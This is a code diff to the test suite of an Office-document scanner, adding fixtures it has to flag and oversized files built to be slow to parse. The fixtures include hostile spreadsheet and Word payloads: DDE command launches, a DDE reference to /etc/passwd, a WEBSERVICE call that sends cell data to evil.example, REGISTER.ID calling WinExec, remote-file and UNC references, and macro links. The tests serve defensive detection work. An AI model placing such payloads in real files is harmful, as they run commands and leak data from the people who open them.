@@ -14,6 +14,7 @@ import {
 } from '../../testing/office/judgeFiles.ts';
 import { watchXml } from './findActiveXml.ts';
 import { inspectFile } from './inspectFile.ts';
+import { roomFor } from './openArchive.ts';
 
 describe('documents and workbooks', () => {
   const numbered = officeParts('docx').map(({ name, data }) => ({
@@ -105,6 +106,7 @@ describe('documents and workbooks', () => {
     ['the data of a chart', 'a.docx', chart(buildOffice('xlsx'))],
     ['many data of a chart', 'a.docx', chart(buildOffice('xlsx', [numbers]))],
     ['many data of a chart, not packed again', 'a.docx', chart(buildOffice('xlsx', [numbers]), 0)],
+    ['a formula of a link', 'a.xlsx', cell('HYPERLINK("https://example.com","the macro: shell:")')],
     ['a link', 'a.docx', rel('Type="x/hyperlink" TargetMode="External" Target="https://example.com"')],
     [
       'the template of its author',
@@ -143,6 +145,11 @@ describe('documents and workbooks', () => {
       withTypes('', '<Default Extension="bin" ContentType="x.binary.macroEnabled.main"/>', 'xlsx'),
     ],
     ['letters that were sent to nobody', 'a.docx', part('<w:connectString w:val=""/>')],
+    [
+      'a formula with a quoted name',
+      'a.xlsx',
+      cell('\'Call (1)\'!A1&amp;"DDE|1"&amp;T[a|b]&amp;[1]S!A1+T[Km/h]+T[[a]:[b]]'),
+    ],
     ['numbers of no database', 'a.xlsx', cell('A1</f><dbPr connection="" command=""/><f>A2')],
     ['a picture beside it', 'a.docx', rel('Type="x/image" TargetMode="External" Target="media/a.png"')],
     [
@@ -282,6 +289,35 @@ describe('documents and workbooks', () => {
         field(begin, begin, said('QUOTE 68 68 69'), separate, end, separate, end),
       ],
       ['a formula of DDE', 'a.xlsx', cell("cmd|'/c calc'!A0")],
+      ['a function of DDE', 'a.xlsx', cell('1+DDE ("soffice","/etc/passwd","A1")')],
+      ['a function of DDE before another formula', 'a.xlsx', cell('DDE("a","b","c")<f/>')],
+      ['a function of DDE behind another formula', 'a.xlsx', cell('<f>1</f>+DDE("a","b","c")')],
+      ['a function of DDE behind an element and half a text', 'a.xlsx', cell('"<a/>DDE("a","b","c")')],
+      ['a function of DDE in a colour', 'a.xlsx', cell('1</f><cfvo val="DDE(&quot;a&quot;,1,1)"/><f>1')],
+      ['a function of DDE between columns', 'a.xlsx', cell(`T['"]&amp;DDE("a","b","c")&amp;T['"]`)],
+      ['a formula of DDE between columns', 'a.xlsx', cell(`T['"]&amp;cmd|'/c calc'!A0&amp;T['"]`)],
+      ['a function of DDE behind many blanks', 'a.xlsx', cell(`1+${' '.repeat(11_000)}DDE("a","b","c")`)],
+      ['a field of DDE before another', 'a.docx', part(said(`DDE x${said('')}`))],
+      ['a function of DDE in a name', 'a.xlsx', cell('x</f><definedName>DDE("a","b","c")</definedName><f>1')],
+      ['a function of DDE in a rule', 'a.xlsx', cell('1</f><formula1>dde("a","b","c")</formula1><f>1')],
+      ['a function that asks a server', 'a.xlsx', cell('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)')],
+      ['a function of a program', 'a.xlsx', cell('REGISTER.ID("kernel32","WinExec")')],
+      ['a cell of another server', 'a.xlsx', cell("'[https://evil.example/a.csv]a'!A1")],
+      ['a cell of a server of files', 'a.xlsx', cell("'[\\\\evil\\a.xlsx]a'!A1")],
+      ['a link to a macro', 'a.docx', rel(`Type="x/hyperlink" Target="macro:///A.B" TargetMode="External"`)],
+      [
+        'a link to a macro of LibreOffice',
+        'a.xlsx',
+        rel(`Type="x/hyperlink" Target=" VND.sun.star.script:a$b?location=share"`, 'xlsx'),
+      ],
+      [
+        'a field that links to a command',
+        'a.docx',
+        field(begin, said(' HYPERLINK \\l "x" "vnd.libreoffice.command:a" '), end),
+      ],
+      ['a formula that links to a helper', 'a.xlsx', cell('1+HYPERLINK( "search-ms:query=a","CV")')],
+      ['a film with a page of its own', 'a.docx', part('<a:webVideoPr embeddedHtml="&lt;script>"/>')],
+      ['a field of an old name', 'a.docx', part('<w:fldSimple w:instr=\'INCLUDE "//evil/a"\'/>')],
       [
         'a link of DDE',
         'a.xlsx',
@@ -414,6 +450,14 @@ describe('documents made to be slow', () => {
   const nested = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
   const attributes = (count: number) =>
     `<a ${Array.from({ length: count }, (_, at) => `a${at}=""`).join(' ')}/>`;
+  const cells = (...counts: number[]) =>
+    buildOffice('docx', [
+      ...counts.map((count, at) => ({
+        name: `word/${at}.xml`,
+        data: `<a>${'<b c=""/>'.repeat(count * 50_000)}</a>`,
+      })),
+      filler,
+    ]);
   const begin = '<w:fldChar w:fldCharType="begin"/>';
   const end = '<w:fldChar w:fldCharType="end"/>';
   const said = (words: string) => `<w:instrText>${words}</w:instrText>`;
@@ -423,13 +467,16 @@ describe('documents made to be slow', () => {
     ['as many elements within each other as other readers take', 'a.docx', part(nested(256))],
     ['as many fields within each other', 'a.docx', part(fields(256))],
     ['as many attributes', 'a.docx', part(attributes(1000))],
+    ['as many elements as a large table has', 'a.docx', cells(20)],
     ['a long source of a citation', 'a.docx', part(begin + said('ADDIN ').repeat(40_000) + end)],
+    ['a longer one in one piece', 'a.docx', part(said(`ADDIN {a | b} ${'x'.repeat(40_000)}`))],
     ['a drawing in a value', 'a.docx', part(`<a b="${'x'.repeat(4 * mb)}"/>`)],
   ]);
   areRefused([
     ['more elements within each other', 'a.docx', part(nested(257))],
     ['more fields within each other', 'a.docx', part(fields(257))],
     ['more attributes', 'a.docx', part(attributes(1001))],
+    ['more elements in two parts than in any document', 'a.docx', cells(20, 20)],
     ['a value longer than any drawing', 'a.docx', part(`<a b="${'&#65;'.repeat(4 * mb)}"/>`)],
   ]);
   areRefused(
@@ -457,10 +504,10 @@ describe('documents made to be slow', () => {
   });
 
   it('reads no further than the first thing that is active', async () => {
-    const watch = watchXml(new Set());
+    const watch = watchXml(new Set(), roomFor(filler.data));
     expect(watch.write('<w:fldSimple w:instr="PAGE"/>')).toBe(false);
     expect(watch.write('<w:fldSimple w:instr="DDE x"/>')).toBe(true);
-    const inPieces = watchXml(new Set());
+    const inPieces = watchXml(new Set(), roomFor(filler.data));
     expect([...'<!-- --!>'].map((letter) => inPieces.write(letter)).at(-1)).toBe(true);
     const damaged = buildOffice('docx', [
       { name: 'word/a.xml', data: '<w:fldSimple w:instr="DDE x"/>' },
